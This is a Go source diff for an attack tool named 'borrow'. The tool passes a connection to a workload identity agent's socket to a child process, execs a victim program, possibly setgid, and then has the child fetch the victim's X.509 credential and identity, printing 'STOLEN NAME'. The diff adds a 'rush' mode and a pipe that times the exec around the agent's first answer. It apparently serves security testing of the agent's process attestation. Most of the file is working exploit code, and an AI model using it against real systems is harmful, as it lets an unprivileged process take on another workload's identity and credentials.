@@ -2,8 +2,10 @@
 // stories attack with, and needs no rights that any process of a user lacks.
 //
 //	borrow connect SOCKET COMMAND…  connects to the agent, hands the connection
-//	    to a child, executes COMMAND over itself; the child then asks on the
-//	    connection for what COMMAND would be given, and kills it
+//	    to a child, executes COMMAND over itself once the agent has answered; the
+//	    child then asks for what COMMAND would be given, and kills it
+//	borrow rush SOCKET COMMAND…  the same without waiting: the agent may look
+//	    for the first time when it is COMMAND already
 //	borrow trace COMMAND…  runs COMMAND as its tracer, which could edit its memory
 package main
 
@@ -28,10 +30,10 @@ import (
 )
 
 func main() {
-	err := errors.New("usage: borrow connect SOCKET COMMAND… | borrow trace COMMAND…")
+	err := errors.New("usage: borrow connect SOCKET COMMAND… | borrow rush SOCKET COMMAND… | borrow trace COMMAND…")
 	switch {
-	case len(os.Args) > 3 && os.Args[1] == "connect":
-		err = connect(os.Args[2], os.Args[3:])
+	case len(os.Args) > 3 && (os.Args[1] == "connect" || os.Args[1] == "rush"):
+		err = connect(os.Args[2], os.Args[3:], os.Args[1] == "connect")
 	case len(os.Args) > 2 && os.Args[1] == "ask":
 		err = ask(os.Args[2])
 	case len(os.Args) > 2 && os.Args[1] == "trace":
@@ -43,7 +45,7 @@ func main() {
 	}
 }
 
-func connect(socket string, command []string) error {
+func connect(socket string, command []string, wait bool) error {
 	path, err := exec.LookPath(command[0])
 	if err != nil {
 		return err
@@ -60,33 +62,31 @@ func connect(socket string, command []string) error {
 		return err
 	}
 	child := exec.Command("/proc/self/exe", "ask", path)
-	child.ExtraFiles = []*os.File{file}
+	answered, say, err := os.Pipe()
+	if err != nil {
+		return err
+	}
+	child.ExtraFiles = []*os.File{file, say}
 	child.Stdout, child.Stderr = os.Stdout, os.Stderr
 	if err := child.Start(); err != nil {
 		return err
 	}
+	if wait {
+		if _, err := answered.Read(make([]byte, 1)); err != nil {
+			return err
+		}
+	}
 	return syscall.Exec(path, command, os.Environ())
 }
 
-// ask waits until its parent is the victim, and speaks in its name.
+// ask has the agent answer its parent, waits until that is the victim, and
+// speaks in its name.
 func ask(victim string) error {
 	parent := os.Getppid()
 	defer syscall.Kill(parent, syscall.SIGKILL)
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 	defer cancel()
-	for link := ""; link != victim; {
-		if ctx.Err() != nil {
-			return ctx.Err()
-		}
-		// The link of a setgid program cannot be read by its user; then the
-		// file that it names is not ours any more, which is as good a sign.
-		var err error
-		if link, err = os.Readlink(fmt.Sprintf("/proc/%d/exe", parent)); errors.Is(err, os.ErrPermission) {
-			break
-		}
-	}
-	file := os.NewFile(3, "agent")
-	c, err := net.FileConn(file)
+	c, err := net.FileConn(os.NewFile(3, "agent"))
 	if err != nil {
 		return err
 	}
@@ -97,7 +97,22 @@ func ask(victim string) error {
 	}
 	defer conn.Close()
 	ctx = metadata.AppendToOutgoingContext(ctx, "workload.spiffe.io", "true")
+	say := os.NewFile(4, "answered")
+	who, err := workloadv1.NewIssuerClient(conn).Whoami(ctx, &workloadv1.WhoamiRequest{})
+	fmt.Println("before:", who.GetMeasurement().GetSelectors(), err)
+	say.Write([]byte{1}) // its reader may be the victim by now
+	say.Close()
 
+	for link := ""; link != victim; {
+		if ctx.Err() != nil {
+			return ctx.Err()
+		}
+		// The link of a setgid program cannot be read by its user; then the
+		// file that it names is not ours any more, which is as good a sign.
+		if link, err = os.Readlink(fmt.Sprintf("/proc/%d/exe", parent)); errors.Is(err, os.ErrPermission) {
+			break
+		}
+	}
 	stream, err := workloadpb.NewSpiffeWorkloadAPIClient(conn).FetchX509SVID(ctx, &workloadpb.X509SVIDRequest{})
 	if err == nil {
 		var resp *workloadpb.X509SVIDResponse
@@ -106,9 +121,9 @@ func ask(victim string) error {
 		}
 	}
 	fmt.Println("svid:", err)
-	who, err := workloadv1.NewIssuerClient(conn).Whoami(ctx, &workloadv1.WhoamiRequest{})
+	who, err = workloadv1.NewIssuerClient(conn).Whoami(ctx, &workloadv1.WhoamiRequest{})
 	if err == nil {
-		fmt.Println("STOLEN NAME", who.GetMeasurement())
+		fmt.Println("STOLEN NAME", who.GetMeasurement().GetSelectors())
 	}
 	fmt.Println("whoami:", err)
 	return nil
